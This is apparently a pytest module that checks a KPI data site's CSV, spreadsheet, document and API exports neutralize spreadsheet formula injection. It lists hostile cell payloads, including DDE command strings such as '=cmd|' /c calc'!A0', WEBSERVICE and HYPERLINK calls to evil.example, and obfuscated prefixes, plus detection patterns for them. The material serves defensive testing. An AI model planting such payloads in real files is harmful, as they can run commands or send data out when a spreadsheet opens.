"""Texts that a spreadsheet would run, from workbooks to every file that is handed on: inert in it, and as they were
written for whoever reads them."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx2
import openpyxl
import pytest

from kpi.opendata.files import HANDED, NAMES
from kpi.text.csv_text import as_written
from kpi.workbook.sheet.layout import Column, layout
from tests.trust.hostile import edition
from tests.trust.hostile.conftest import staffed
from tests.trust.hostile.edition import write
from tests.trust.promises import Reached, is_full
from tests.web.conftest import Served

#: how they begin; the reader takes away spaces, tabs and line breaks in front
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A0", "+cmd|' /c calc'!A0", "-2+3+cmd|'/c x'!A0"),
    *(
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n=1+1",
        "\u00a0=1+1",
        '"=1+1',
        "'=1+1",
        "''=1+1",
        "\"'=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
    ),
    *('=HYPERLINK("https://evil.example")', '=WEBSERVICE("https://evil.example")', '=DDE("x";"y")', "{=1+1}", "1+1"),
)
#: stands in every one of them
MARK = "¤"
API = ("indicators", "goals", "observations", "progress")
#: what the desk hands out; the templates are what letters carry
DESK = ("/upload/template?goal=1.1", "/admin/plan.xlsx", "/admin/chase.csv", "/admin/journal.csv")
ROWS = 6 if is_full() else 2
#: what a spreadsheet runs when it opens a CSV; the rules of the product are not asked here
_RUNS = re.compile(r"[\s\u00a0'\"]*[=+\-@\t\r＝＋－＠]")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?", re.IGNORECASE)


def text_of(column: Column, k: int, place: int) -> str:
    """A formula of its own for each row and column, in place of markup."""
    return f"{FORMULAS[(7 * k + place) % len(FORMULAS)]} {MARK}{k}.{column.key[:12]}"


def written(rows: int) -> set[str]:
    """The texts as the reader hands them on: spaces at the ends and line breaks are gone."""
    columns = [(sheet, c) for name in ("plan", "goal") for sheet in layout(name).sheets.values() for c in sheet.columns]
    cells = (edition.cell_of(sheet, column, k) for sheet, column in columns for k in range(1, rows + 1))
    texts = {" ".join(str(cell).split()) for cell in cells if MARK in str(cell)}
    # of some cells the words behind a code or a day are the text
    return texts | {text.partition(" ")[2] for text in texts}


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, set[str]]]:
    folder: Path = tmp_path_factory.mktemp("formulas")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(edition, "text_of", text_of)
        patch.setattr(edition, "department", lambda k: f"=department+{MARK}{k}")
        texts = written(ROWS)
        files = write(folder / "edition", ROWS)
    with staffed(folder, files) as served:
        yield served, texts


def test_texts_are_inert_and_unchanged_in_every_file(running: tuple[Served, set[str]], reached: Reached) -> None:
    served, texts = running
    public, desk = served.client(), served.enter("chief")
    told = {
        **{f"/download/{name}": public for name in NAMES},
        **{f"/download/indicator/1.1.1.{ending}": public for ending in ("csv", "xlsx")},
        **{f"/api/v1/{name}?{form}": public for name in API for form in ("limit=500", "format=csv")},
        **{f"/report?format={form}": public for form in ("docx", "pptx", "xlsx")},
        **dict.fromkeys(DESK, desk),
    }
    live, changed, seen, files = [], [], set(), 0
    for address, client in told.items():
        answer = client.get(address)
        if answer.status_code == 404 and address.rpartition("/")[2] in HANDED:
            continue  # a register that this community does not know
        assert answer.status_code == 200, (address, answer.text[:300])
        files += 1
        found = list(_texts(address, answer))
        live += [f"{address}: {text!r}" for text, runs in found if runs]
        marked = {text for text, _ in found if MARK in text}
        seen |= marked
        if address.startswith(("/download", "/api")):
            changed += [f"{address}: {text!r}" for text in marked if not _known(text, texts)]
    assert not live, "\n".join(live[:40])
    assert not changed, "\n".join(changed[:40])
    assert len(seen & texts) > len(texts) / 3, "the texts are there"
    reached("F2", files=files, live=len(live), changed=len(changed))


def _known(text: str, texts: set[str]) -> bool:
    """Whether a text is one that was written, or a list or a sentence that holds such ones whole."""
    return text in texts or any(one in text for one in texts if one[:3] in text) or text.startswith("=department")


def _texts(address: str, answer: httpx2.Response) -> Iterator[tuple[str, bool]]:
    """Every text of a file, as its reader takes it, and whether a program would run it."""
    kind = answer.headers["content-type"].partition(";")[0]
    if kind == "text/csv":
        body = answer.content.decode("utf-8-sig")
        separator = ";" if body.partition("\n")[0].count(";") > body.partition("\n")[0].count(",") else ","
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
            yield from ((as_written(cell), bool(_RUNS.match(cell)) and not _inert(cell)) for cell in row)
    elif kind.endswith("sheet"):
        yield from _cells(answer.content)
    elif kind.endswith(("document", "presentation")):
        yield from _office(answer.content)
    elif "zip" in kind:
        with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    for row in csv.reader(io.StringIO(archive.read(name).decode(), newline="")):
                        yield from ((as_written(cell), bool(_RUNS.match(cell)) and not _inert(cell)) for cell in row)
    elif "json" in kind:
        yield from ((text, False) for text in _strings(json.loads(answer.content)))


def _inert(cell: str) -> bool:
    """A number, or a text behind an apostrophe that a program shows as a text."""
    return bool(_NUMBER.fullmatch(cell)) or cell.startswith("'")


def _cells(content: bytes) -> Iterator[tuple[str, bool]]:
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    linked = cell.hyperlink is not None and "evil" in str(cell.hyperlink.target)
                    formula = cell.data_type == "f" and MARK in cell.value
                    yield cell.value, formula or linked
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        yield from (
            ("", b"evil.example" in archive.read(name)) for name in archive.namelist() if name.endswith(".rels")
        )


def _office(content: bytes) -> Iterator[tuple[str, bool]]:
    """The words of a document's parts; a field, an object or a link out of it that a text has made runs."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            body = archive.read(name).decode("utf-8", "replace")
            if name.endswith(".rels"):
                yield "", "evil.example" in body or "oleObject" in body
            elif name.endswith(".xml"):
                fields = re.findall(r"<w:(?:instrText|fldSimple)[^>]*>([^<]*)", body)
                yield re.sub(r"<[^>]+>", "", body), any("DDE" in field or MARK in field for field in fields)


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        for one in value:
            yield from _strings(one)
    elif isinstance(value, str):
        yield value
